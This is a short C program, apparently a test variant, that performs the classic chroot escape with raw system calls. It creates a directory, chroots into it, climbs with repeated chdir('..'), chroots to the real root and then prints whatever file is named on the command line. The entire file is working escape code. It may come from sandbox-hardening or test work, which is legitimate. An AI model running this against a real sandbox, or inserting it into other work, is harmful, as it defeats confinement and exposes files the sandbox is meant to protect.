/* Unusual but correct: the classic escape in C with raw system calls,
 * syscall(2) for each (mkdir, chroot, chdir, open, read, write), and
 * no cleanup. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
    char buffer[65536];
    long n;
    if (argc != 2)
        return 2;
    syscall(SYS_mkdir, "c-out", 0755);
    if (syscall(SYS_chroot, "c-out") == -1)
        return 1;
    for (int i = 0; i < 256; i++)
        syscall(SYS_chdir, "..");
    if (syscall(SYS_chroot, ".") == -1)
        return 1;
    long fd = syscall(SYS_open, argv[1], O_RDONLY);
    if (fd == -1)
        return 1;
    while ((n = syscall(SYS_read, fd, buffer, sizeof buffer)) > 0)
        syscall(SYS_write, 1, buffer, n);
    return n == 0 ? 0 : 1;
}
